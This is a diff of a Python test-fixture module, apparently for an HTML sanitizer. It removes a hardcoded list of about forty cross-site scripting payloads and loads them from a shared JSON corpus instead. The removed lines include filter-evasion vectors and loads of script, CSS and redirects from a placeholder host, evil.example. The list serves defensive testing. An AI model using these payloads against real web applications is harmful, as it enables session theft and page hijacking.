@@ -2,47 +2,12 @@
 
 from __future__ import annotations
 
+import json
+from pathlib import Path
 from typing import Final
 
-PAYLOADS: Final = (
-    "<script>pwned(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<img src=x onerror=pwned(3)>",
-    "<IMG SRC=x OnErRoR='pwned(4)'>",
-    '"><img src=x onerror=pwned(5)>',
-    "'><svg onload=pwned(6)>",
-    "<svg/onload=pwned(7)>",
-    "<svg><script>pwned(8)</script></svg>",
-    '<svg><animate onbegin=pwned(9) attributeName=x dur="1s"/></svg>',
-    '<svg><a xlink:href="javascript:pwned(10)"><text y=20>go</text></a></svg>',
-    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(11)>",
-    "<body onload=pwned(12)>",
-    "<iframe src=javascript:parent.pwned(13)></iframe>",
-    "<iframe srcdoc='<script>parent.pwned(14)</script>'></iframe>",
-    "<object data=javascript:pwned(15)></object>",
-    "<embed src=javascript:pwned(16)>",
-    "<a href=javascript:pwned(17)>Order 1042</a>",
-    "<a href='java\tscript:pwned(18)'>Order 1043</a>",
-    "<form action=javascript:pwned(19)><button autofocus>Pay</button></form>",
-    "<input autofocus onfocus=pwned(20)>",
-    "<details open ontoggle=pwned(21)>more</details>",
-    "<video><source onerror=pwned(22)></video>",
-    "<audio src=x onerror=pwned(23)></audio>",
-    "<marquee onstart=pwned(24)>sale</marquee>",
-    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/b)}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
-    "<base href=//evil.example/>",
-    "<template><img src=x onerror=pwned(29)></template>",
-    "</textarea><script>pwned(30)</script>",
-    "</title><script>pwned(31)</script>",
-    "--></style></script><script>pwned(32)</script>",
-    "<!--><img src=x onerror=pwned(33)-->",
-    "<![CDATA[><img src=x onerror=pwned(34)>]]>",
-    "&lt;img src=x onerror=pwned(35)&gt;",
-    "&#60;script&#62;pwned(36)&#60;/script&#62;",
-    "\u003cimg src=x onerror=pwned(37)\u003e",
-    "{{constructor.constructor('pwned(38)')()}} ${pwned(38)} {% raw %}",
-    'javascript:pwned(39)//https://evil.example/?a="onmouseover=pwned(39)',
-    'https://evil.example/"onmouseover="pwned(40)"<b>x</b>',
+#: The front ends' tests read the same file.
+PAYLOADS: Final = tuple(
+    str(each)
+    for each in json.loads((Path(__file__).parent / "corpus" / "hostile.json").read_text())
 )
